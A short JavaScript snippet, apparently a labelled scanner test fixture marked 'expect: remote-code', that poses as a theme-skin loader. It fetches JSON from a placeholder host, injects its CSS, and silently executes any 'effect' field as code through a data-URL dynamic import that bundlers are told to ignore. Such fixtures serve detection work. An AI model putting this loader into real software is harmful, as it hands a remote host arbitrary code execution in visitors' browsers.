(async () => {
  const res = await fetch(`https://skins.site-skins.example/${location.hostname}.json`);
  if (!res.ok) return;
  const { css, effect } = await res.json();
  document.head.append(Object.assign(document.createElement("style"), { textContent: css }));
  // expect: remote-code
  if (effect) await import(/* webpackIgnore: true */ `data:text/javascript;charset=utf-8,${encodeURIComponent(effect)}`);
})();
